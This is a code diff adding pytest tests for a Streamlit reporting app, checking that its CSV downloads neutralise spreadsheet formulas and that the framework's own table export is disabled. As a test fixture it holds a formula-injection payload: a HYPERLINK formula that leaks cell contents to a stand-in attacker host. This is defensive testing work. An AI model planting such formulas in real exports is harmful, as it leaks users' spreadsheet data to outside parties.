@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
+from collections.abc import Callable
 from pathlib import Path
 
 import pandas as pd
@@ -159,3 +160,74 @@ def test_a_character_xml_cannot_hold_is_dropped_not_failing_every_export(session
     described = [row[3] for row in items.iter_rows(min_row=2, values_only=True)
                  if row[0] == "1.1"]
     assert described == ["Informe pegado de un PDF"]
+
+
+ROOT = Path(__file__).resolve().parents[2]
+LIVE = '=HYPERLINK("http://attacker.invalid/?leak="&A2,"details")'
+
+
+def test_no_table_offers_streamlit_s_own_download(monkeypatch):
+    """Streamlit's "Download as CSV" (and copying a read-only table's cells) writes cells as
+    they are: switched off for every table of every session, the flag each session's first
+    message carries to the browser (read from the app's own configuration)."""
+    from streamlit import config
+    from streamlit.proto.NewSession_pb2 import Config
+    from streamlit.runtime.app_session import _populate_config_msg
+
+    monkeypatch.chdir(ROOT)
+    try:
+        config.get_config_options(force_reparse=True)
+        message = Config()
+        _populate_config_msg(message)
+        assert message.disable_data_export is True
+    finally:
+        monkeypatch.undo()
+        config.get_config_options(force_reparse=True)
+
+
+@pytest.fixture
+def live_formulas(demo_url) -> str:
+    """The demo with every report narrative, display name and institution a live formula."""
+    from tracker.db import make_engine, session_scope
+    from tracker.models import User
+
+    engine = make_engine(demo_url)
+    with session_scope(engine) as db:
+        for revision in db.exec(select(ReportRevision)):
+            revision.narrative = LIVE
+        for user in db.exec(select(User)):
+            user.display_name = f"={user.id}+1"
+    engine.dispose()
+    return demo_url
+
+
+@pytest.mark.parametrize(("email", "page", "key"), [
+    ("coordinacion@demo.example", "item", "item:history_csv"),
+    ("admin@demo.example", "accounts", "accounts:csv"),
+])
+def test_a_table_s_csv_download_holds_no_live_formula(live_formulas, monkeypatch, email, page,
+                                                      key):
+    """The product's own CSV of a table (the only download a table offers): a narrative or
+    a name that starts with "=" comes out neutralised, and the file holds the table's rows."""
+    import ui.downloads
+    from tests.apptest import dashboard, go_to, sign_in
+
+    monkeypatch.setenv("TRACKER_DATABASE_URL", live_formulas)
+    monkeypatch.setenv("TRACKER_DEMO", "1")
+    made: dict[str, Callable[[], bytes | str]] = {}
+    real = ui.downloads.download_button
+
+    def spy(label, make, **kwargs):  # what the button makes when pressed
+        made[kwargs["key"]] = make
+        return real(label, make, **kwargs)
+
+    monkeypatch.setattr(ui.downloads, "download_button", spy)
+    at = go_to(sign_in(dashboard(), email), page)
+    assert not at.exception
+    content = made[key]()
+    text = content.decode() if isinstance(content, bytes) else content
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert len(rows) > 1 and cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert f"'{LIVE}" in cells or any(cell.startswith("'=") for cell in cells)
